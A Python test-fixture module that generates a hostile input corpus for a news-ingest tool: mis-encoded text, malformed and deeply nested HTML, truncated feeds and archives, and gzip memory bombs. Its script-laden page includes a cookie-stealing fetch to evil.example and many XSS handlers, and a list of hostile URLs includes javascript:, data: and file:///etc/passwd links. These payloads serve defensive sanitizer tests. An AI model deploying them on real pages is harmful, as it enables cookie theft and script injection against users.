"""A hostile-input corpus, generated on the fly: good inputs beside every kind of bad one.

``make_hostile_corpus(dir)`` writes the files and returns what a correct ingest must do with
each of them, so tests can assert precisely (ids are relative to ``dir``, as newsweave makes
them when given the directory):

``good``         rel path -> article ids that must be stored from it
``bad``          rel path -> error kind it must be reported with (``unsupported``,
                 ``undecodable`` or ``malformed``); a file may be in both (truncated inputs keep
                 the complete records before the damage)
``bad_lines``    rel path -> line numbers reported for a JSON Lines file
``not_fetched``  rel path -> number of link-only feed entries
``raw_contains`` article id -> strings its stored raw text must contain (decoding checks)
``exact_raw``    article id -> the exact raw text that must be stored
``text_contains`` / ``text_lacks``  article id -> strings its cleaned text must / must not hold
``over_limit``   rel path of the file over the default --max-bytes
"""
from __future__ import annotations

import codecs
import gzip
import io
import json
import random
import zlib
from pathlib import Path

BIG_BYTES = 60 * 1024 * 1024  # over the default --max-bytes (20 MB)
WORDS = (
    "harbour council storm bridge river valley engineers mayor rain flood crews village ferry port "
    "union workers strike vote budget school hospital road rail station market farmers police court"
).split()

# A page full of script: in <head>, inline, as event handlers, javascript: URLs, inside <svg>,
# a script whose string holds fake markup, and a real article body around it.
SCRIPT_PAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>Harbour reopens after storm</title>
<script>var tracker = "x"; function stealCookie(){ fetch("https://evil.example/?c=" + document.cookie); }</script>
<script src="https://evil.example/payload.js"></script>
<style>body { background: url("javascript:alert('style')"); }</style>
</head>
<body onload="stealCookie()">
<img src="missing.png" onerror="alert('XSS-onerror')">
<nav><a href="javascript:alert('XSS-nav')">Home</a> <a href="/news" onmouseover="alert('XSS-hover')">News</a></nav>
<article>
<h1>Harbour reopens after storm</h1>
<p>The harbour at Velsen reopened to shipping on Thursday after divers confirmed that the storm had not damaged the main quay, the port authority said.</p>
<script>document.write("<p>INJECTED PARAGRAPH FROM SCRIPT</p>"); stealCookie();</script>
<p onclick="alert('XSS-click')">Harbour master Ilse Brandt said the first ferries would leave at dawn and that the fishing fleet had already returned to its moorings.</p>
<p>Repairs to the damaged breakwater will cost about two million euros and take most of the summer, according to the regional council. <a href="javascript:void(stealCookie())">Read more</a></p>
<svg onload="alert('XSS-svg')"><script>alert("XSS-svg-script")</script></svg>
<iframe src="javascript:alert('XSS-iframe')"></iframe>
<noscript>Please enable JavaScript to read the comments.</noscript>
</article>
<script type="text/javascript">
  // markup inside a script string must stay script
  var fake = "</div><p>FAKE BODY FROM A SCRIPT STRING</p>";
  window.onerror = function () { alert("XSS-window"); };
</script>
</body></html>
"""
SCRIPT_LEAKS = ["alert", "XSS", "stealCookie", "document.cookie", "document.write", "javascript:", "INJECTED", "FAKE BODY", "evil.example", "function"]

MALFORMED_HTML = """<html><head><title>Ferry timetable changes</title><body>
<div class="story"><h1>Ferry timetable changes
<p>The ferry between Aldon and Brisk will run every forty minutes from Monday, the operator said, after months of complaints about crowded boats.
<p>Commuters <b>welcomed <i>the change</b> but</i> said fares were still too high <table><tr><td>for families<div></table>
&bogus; &#99999999; &#x110000; &#0; <<<>>> </p </ br> <p/ <a href=">broken link
<![CDATA[ stray cdata ]]> <? processing ?> </notatag>
<p>The council will review the timetable again in the autumn.
<!-- a comment that is never closed
"""

DEEP_HTML = (
    "<!DOCTYPE html><html><head><title>Deep page</title></head><body>"
    + "<div>" * 10000
    + "<p>Deep inside ten thousand nested blocks lies a paragraph about the valley flood and the rescue crews.</p>"
    + "</div>" * 10000
    + "</body></html>"
)

CP1252_TEXT = (
    "Café owners protest new rent rules\n"
    "\u201cWe cannot survive another winter like this,\u201d said Zoé Marchand, who runs the café on the quay.\n"
    "The council said it would publish the final rules \u2013 and the rent caps \u2013 next month.\n"
)
LATIN1_TEXT = (
    "Bakery reopens in Zürich old town\n"
    "The Müller family reopened the bakery on Saturday, and the señor from the next street was the first customer.\n"
    "Prices rose by a few centimes, the owner said, because flour now costs more than last year.\n"
)
UTF16_TEXT = (
    "Ångström prize goes to river study\n"
    "The naïve model of the river was wrong, the jury said \u2014 the new study shows why floods come earlier.\n"
    "The \u201cHalvik method\u201d will be used by engineers across the valley from next year.\n"
)
PLAIN_TEXT = (
    "Council approves bridge repairs\n\n"
    "The council approved repairs to the old stone bridge on Monday after engineers found cracks in two arches.\n"
    "Work starts in April and the bridge will be closed to cars for six weeks, the mayor said.\n"
)


def _words(rng: random.Random, n: int) -> str:
    return " ".join(rng.choice(WORDS) for _ in range(n))


def _atom() -> str:
    body = (
        "&lt;p&gt;The ferry line between Aldon and Brisk reopened on Tuesday after a week of repairs to the landing stage, "
        "and the operator said boats would run every forty minutes.&lt;/p&gt;"
        "&lt;p&gt;Commuters said the crossing had been sorely missed; the road around the lake adds an hour to the "
        "journey, and the bus that replaced the ferry was often full before it reached the last stop.&lt;/p&gt;"
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
  <title>Wire</title><link href="https://wire.example/"/><id>urn:wire</id><updated>2026-03-03T10:00:00Z</updated>
  <entry>
    <title>Ferry line reopens</title><link href="https://wire.example/ferry"/><id>urn:wire:ferry</id>
    <updated>2026-03-03T10:00:00Z</updated><published>2026-03-03T09:00:00Z</published>
    <content type="html">{body}</content>
  </entry>
  <entry>
    <title>Link only</title><link href="https://wire.example/link-only"/><id>urn:wire:link</id>
    <updated>2026-03-03T11:00:00Z</updated><summary>Short teaser.</summary>
  </entry>
</feed>
"""


def _broken_rss() -> str:
    """A feed cut off inside its second item: the first, complete item is still an article."""
    first = "Dock workers at the port of Sella voted to end their nine-day strike on Tuesday after the operator offered a pay rise. " * 3
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Ledger</title><link>https://ledger.example/</link><description>news</description>
<item><title>Port strike ends</title><link>https://ledger.example/strike</link><guid>r-1</guid>
<pubDate>Tue, 03 Mar 2026 10:00:00 GMT</pubDate><description>{first}</description></item>
<item><title>Second story</title><link>https://ledger.example/second</link><guid>r-2</guid>
<description>The harbour authority said on Wedn"""


def _warc(responses: list[tuple[str, str]]) -> tuple[bytes, list[int]]:
    """A gzip WARC (one member per record) with a warcinfo record and HTML responses; record end offsets."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    out = io.BytesIO()
    writer = WARCWriter(out, gzip=True)
    writer.write_record(writer.create_warcinfo_record("hostile.warc.gz", {"software": "newsweave tests"}))
    ends = [out.tell()]
    for url, html in responses:
        headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8")], protocol="HTTP/1.1")
        record = writer.create_warc_record(url, "response", payload=io.BytesIO(html.encode("utf-8")), http_headers=headers)
        writer.write_record(record)
        ends.append(out.tell())
    return out.getvalue(), ends


def _page(title: str, body: str) -> str:
    return f"<!DOCTYPE html><html><head><title>{title}</title></head><body><article><h1>{title}</h1>{body}</article></body></html>"


def make_hostile_corpus(dir: Path) -> dict:
    """Write the corpus into ``dir`` (created if needed); return the expectations described above."""
    dir = Path(dir)
    dir.mkdir(parents=True, exist_ok=True)
    rng = random.Random(1234)
    good: dict[str, list[str]] = {}
    bad: dict[str, str] = {}
    bad_lines: dict[str, list[int]] = {}
    not_fetched: dict[str, int] = {}
    raw_contains: dict[str, list[str]] = {}
    exact_raw: dict[str, str] = {}
    text_contains: dict[str, list[str]] = {}
    text_lacks: dict[str, list[str]] = {}

    def write(rel: str, data: bytes) -> None:
        (dir / rel).write_bytes(data)

    # --- good single documents -------------------------------------------------------------
    write("plain.txt", PLAIN_TEXT.encode("utf-8"))
    good["plain.txt"] = ["plain.txt"]
    exact_raw["plain.txt"] = PLAIN_TEXT

    data = CP1252_TEXT.encode("cp1252")
    assert b"\x93" in data and b"\x94" in data and b"\xe9" in data
    write("cp1252.txt", data)
    good["cp1252.txt"] = ["cp1252.txt"]
    raw_contains["cp1252.txt"] = ["\u201cWe cannot survive", "Zoé Marchand", "\u2013 and the rent caps"]
    exact_raw["cp1252.txt"] = CP1252_TEXT

    write("latin1.txt", LATIN1_TEXT.encode("latin-1"))
    good["latin1.txt"] = ["latin1.txt"]
    raw_contains["latin1.txt"] = ["Zürich", "Müller", "señor"]
    exact_raw["latin1.txt"] = LATIN1_TEXT

    write("utf16le.txt", codecs.BOM_UTF16_LE + UTF16_TEXT.encode("utf-16-le"))
    write("utf16be.txt", codecs.BOM_UTF16_BE + UTF16_TEXT.encode("utf-16-be"))
    for rel in ("utf16le.txt", "utf16be.txt"):
        good[rel] = [rel]
        raw_contains[rel] = ["Ångström", "naïve", "\u201cHalvik method\u201d"]
        exact_raw[rel] = UTF16_TEXT

    write("scripts.html", SCRIPT_PAGE.encode("utf-8"))
    good["scripts.html"] = ["scripts.html"]
    exact_raw["scripts.html"] = SCRIPT_PAGE
    text_contains["scripts.html"] = ["reopened to shipping on Thursday", "Ilse Brandt", "breakwater"]
    text_lacks["scripts.html"] = SCRIPT_LEAKS

    write("malformed.html", MALFORMED_HTML.encode("utf-8"))  # lenient HTML parsing: still an article
    good["malformed.html"] = ["malformed.html"]
    exact_raw["malformed.html"] = MALFORMED_HTML
    text_contains["malformed.html"] = ["every forty minutes"]

    write("deep.html", DEEP_HTML.encode("utf-8"))
    good["deep.html"] = ["deep.html"]
    exact_raw["deep.html"] = DEEP_HTML

    # --- feeds -----------------------------------------------------------------------------
    write("atom.xml", _atom().encode("utf-8"))
    good["atom.xml"] = ["atom.xml#urn:wire:ferry"]
    not_fetched["atom.xml"] = 1
    text_contains["atom.xml#urn:wire:ferry"] = ["landing stage"]

    write("broken.rss", _broken_rss().encode("utf-8"))
    good["broken.rss"] = ["broken.rss#r-1"]
    text_contains["broken.rss#r-1"] = ["voted to end their nine-day strike"]  # a plain-text body
    bad["broken.rss"] = "malformed"
    not_fetched["broken.rss"] = 1  # the cut-off second item has only a link and a few words

    # --- JSON Lines ------------------------------------------------------------------------
    body = "The regional council met on Friday to discuss the flood defences along the river."
    lines = [
        json.dumps({"id": "mixed-1", "title": "Flood defences", "text": "Flood defences\n" + body + "\nWork begins in May."}),  # 1
        json.dumps({"id": "mixed-2", "html": _page("Market day", "<p>" + body + " The market reopens too.</p>")}),  # 2
        '{"id": "mixed-broken", "text": "an unterminated string',  # 3 broken JSON
        json.dumps({"id": "mixed-nobody", "title": "A record without body", "text": "   "}),  # 4 no body
        json.dumps({"text": "A record without an id still gets one.\n" + body, "url": "https://www.wire.example/noid"}),  # 5
        '{"id": "mixed-surrogate", "text": "Lone surrogates \\ud800 and \\udc00 must not sink the store. ' + body + '", "tags": ["\\udfff"]}',  # 6
        "[" * 100_000 + "]" * 100_000,  # 7 nesting deeper than the JSON parser's recursion limit
        "[1, 2, 3]",  # 8 not an object
        '{"id": ' + "7" * 5000 + ', "text": "An id with more digits than Python converts."}',  # 9 int over the 4300-digit limit
        json.dumps({"id": "mixed-last", "text": "The last record is fine.\n" + body}),  # 10
    ]
    write("mixed.jsonl", ("\n".join(lines) + "\n").encode("utf-8"))
    good["mixed.jsonl"] = ["mixed-1", "mixed-2", "mixed.jsonl:5", "mixed-surrogate", "mixed-last"]
    bad["mixed.jsonl"] = "malformed"
    bad_lines["mixed.jsonl"] = [3, 4, 7, 8, 9]
    text_contains["mixed-2"] = ["The market reopens too."]
    raw_contains["mixed-surrogate"] = ["Lone surrogates \ufffd and \ufffd must"]

    records = [json.dumps({"id": f"trunc-{n:02d}", "text": f"Story {n}\n" + _words(rng, 80) + "."}) for n in range(40)]
    packed = gzip.compress(("\n".join(records) + "\n").encode("utf-8"), mtime=0)
    cut = packed[: len(packed) // 2]
    readable = zlib.decompressobj(wbits=31).decompress(cut)
    complete = readable.count(b"\n")
    assert 0 < complete < len(records)
    write("truncated.jsonl.gz", cut)
    good["truncated.jsonl.gz"] = [f"trunc-{n:02d}" for n in range(complete)]
    bad["truncated.jsonl.gz"] = "malformed"

    # gzip magic and header, then a deflate block of the reserved type 3 and random bytes
    junk = bytearray(rng.randbytes(4096))
    junk[0] |= 0b110
    write("corrupt.gz", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + bytes(junk))
    bad["corrupt.gz"] = "malformed"

    # --- WARC ------------------------------------------------------------------------------
    pages = [
        ("https://harbour.example/one", _page("Quay repaired", "<p>" + "Divers finished repairs to the quay wall on Monday, the harbour office said. " * 4 + "</p>")),
        ("https://harbour.example/two", _page("Fleet returns", "<p>" + "The fishing fleet returned to port after the storm had passed over the coast. " * 4 + "</p>")),
    ]
    warc, _ = _warc(pages)
    write("valid.warc.gz", warc)
    good["valid.warc.gz"] = [f"valid.warc.gz#{url}" for url, _ in pages]

    big_second = _page("Long report", "".join(f"<p>{_words(rng, 60)}.</p>" for _ in range(60)))
    warc, ends = _warc([pages[0], ("https://harbour.example/long", big_second)])
    half = len(warc) // 2
    assert ends[1] < half < ends[2], "the cut must fall inside the second response"
    write("truncated.warc.gz", warc[:half])
    good["truncated.warc.gz"] = [f"truncated.warc.gz#{pages[0][0]}"]
    bad["truncated.warc.gz"] = "malformed"

    # the same, uncompressed, cut inside the second response's payload
    plain = zlib.decompressobj(wbits=31)
    unpacked = b""
    rest = warc
    while rest:
        plain = zlib.decompressobj(wbits=31)
        unpacked += plain.decompress(rest)
        rest = plain.unused_data
    second = unpacked.index(b"https://harbour.example/long")
    write("truncated.warc", unpacked[: second + (len(unpacked) - second) // 2])
    good["truncated.warc"] = [f"truncated.warc#{pages[0][0]}"]
    bad["truncated.warc"] = "malformed"

    # --- plain bad files -------------------------------------------------------------------
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00" + rng.randbytes(2048) + b"\x00" * 64 + b"IEND\xaeB`\x82"
    write("image.txt", png)
    bad["image.txt"] = "unsupported"

    write("empty.txt", b"")
    bad["empty.txt"] = "unsupported"

    write("blank.txt", b"  \n\t\n   \r\n\x0c\n")
    bad["blank.txt"] = "malformed"

    block = ("The same line of text repeats until the file is far too large. " * 16 + "\n").encode("ascii")
    block *= (1 << 20) // len(block) + 1
    block = block[: 1 << 20]
    with open(dir / "huge.txt", "wb") as f:  # 60 one-MiB writes: fast, and real text
        for _ in range(BIG_BYTES // len(block) + 1):
            f.write(block)
    assert (dir / "huge.txt").stat().st_size > BIG_BYTES
    bad["huge.txt"] = "unsupported"

    return {
        "good": good,
        "bad": bad,
        "bad_lines": bad_lines,
        "not_fetched": not_fetched,
        "raw_contains": raw_contains,
        "exact_raw": exact_raw,
        "text_contains": text_contains,
        "text_lacks": text_lacks,
        "over_limit": "huge.txt",
    }


# --- memory bombs and hostile collections (tests/test_reliability_ingest.py) -----------------------

MIB = 1 << 20
_GZIP_HEADER = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


def gzip_member(parts: list[bytes | tuple[int, bytes]]) -> bytes:
    """One gzip member of ``parts``: literal bytes, or ``(n, byte)`` for n MiB of one byte (or n times ``byte`` * 1 MiB: a bomb).

    A run is compressed once as an independent deflate segment (a full flush resets the history)
    and repeated, so a gigabyte costs a few milliseconds and never sits in memory.
    """
    segments: list[bytes] = []
    crc = 0
    size = 0
    for part in parts:
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        if isinstance(part, bytes):
            segments.append(packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH))
            crc = zlib.crc32(part, crc)
            size += len(part)
            continue
        count, byte = part
        chunk = byte * MIB
        segments.append((packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)) * count)
        for _ in range(count):
            crc = zlib.crc32(chunk, crc)
        size += count * len(chunk)
    segments.append(zlib.compressobj(9, zlib.DEFLATED, -15).flush())  # an empty final block
    return _GZIP_HEADER + b"".join(segments) + (crc & 0xFFFFFFFF).to_bytes(4, "little") + (size & 0xFFFFFFFF).to_bytes(4, "little")


def article_record(id_: str, rng: random.Random, words: int = 80) -> bytes:
    """One JSON Lines record (with its newline) holding a plain-text article."""
    return (json.dumps({"id": id_, "title": f"Story {id_}", "text": f"Story {id_}\n" + _words(rng, words) + "."}) + "\n").encode("utf-8")


def warc_response(url: str, body: bytes, headers: list[tuple[str, str]] | None = None,
                  content_length: int | None = None) -> bytes:
    """A WARC/1.0 response record (HTTP headers and ``body``); ``content_length`` may override the block's."""
    http = b"HTTP/1.1 200 OK\r\n" + b"".join(f"{k}: {v}\r\n".encode("latin-1") for k, v in (headers or [("Content-Type", "text/html; charset=utf-8")])) + b"\r\n"
    block = http + body
    head = (f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: {url}\r\nWARC-Date: 2026-03-03T10:00:00Z\r\n"
            f"WARC-Record-ID: <urn:uuid:{zlib.crc32(url.encode()):08x}-0000-0000-0000-000000000000>\r\n"
            f"Content-Type: application/http; msgtype=response\r\nContent-Length: {content_length if content_length is not None else len(block)}\r\n\r\n")
    return head.encode("latin-1") + block + b"\r\n\r\n"


def page(title: str, rng: random.Random, paragraphs: int = 4) -> bytes:
    """A small HTML article page."""
    return _page(title, "".join(f"<p>{_words(rng, 40).capitalize()}.</p>" for _ in range(paragraphs))).encode("utf-8")


# --- article addresses a page must never link (only http and https are linked, shown as their host) -----------

HOSTILE_URLS = [
    "javascript:window.__pwned=1", "JaVaScRiPt:window.__pwned=1", " javascript:window.__pwned=1", "java\tscript:window.__pwned=1",
    "javascript&colon;window.__pwned=1", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    "data:text/html,<script>window.__pwned=1</script>", "DATA:image/svg+xml,<svg onload=window.__pwned=1>", "vbscript:msgbox(1)",
    "file:///etc/passwd", "//evil.example/protocol-relative", "https://bank.example@evil.example/", "https://evil.example\u202e/x",
]
QUOTED_URL = 'https://evil.example/"><script>window.__pwned=1</script>'  # http(s), so linked, but with its quotes encoded
SAFE_URL = "https://www.harbour-news.example/2026/02/01/crane-collapse"
HARBOUR_BODY = (
    "A harbour crane collapsed in the storm on Sunday at the port of Velsen, the port authority said, and the port stayed closed on Monday.\n\n"
    "About {workers} workers were evacuated from the quay, according to the port authority, and nobody was hurt.\n\n"
    "Harbour master Ilse Brandt said: \"We heard the steel groan before it fell, and we cleared the quay at once.\" "
    "<script>window.__pwned=1</script> <a href=\"javascript:window.__pwned=1\">more</a>\n\n"
    "Repairs to the crane will cost about {cost} million euros, the regional council said on Monday."
)


def make_hostile_url_corpus(folder: Path) -> Path:
    """One story told by many outlets whose names, titles and bodies carry markup and whose addresses are every kind
    of URL a link must not go to (and two that may: :data:`SAFE_URL`, :data:`QUOTED_URL`). Returns the JSON Lines file."""
    folder.mkdir(parents=True, exist_ok=True)
    urls = HOSTILE_URLS + [QUOTED_URL, SAFE_URL]
    lines = []
    for n, url in enumerate(urls):
        lines.append(json.dumps({
            "id": f"hostile-url-{n:02d}", "url": url, "published": f"2026-02-{1 + n % 3:02d}",
            "outlet": f"<script>window.__pwned=1</script>outlet{n}.example" if n % 2 else f"outlet{n}.example\" onmouseover=\"window.__pwned=1",
            "title": f"<img src=x onerror=\"window.__pwned=1\">Crane collapses at Velsen harbour ({n})",
            "text": HARBOUR_BODY.format(workers=40 + n % 2 * 5, cost=2 + n % 2),
        }, ensure_ascii=False))
    path = folder / "hostile_urls.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path
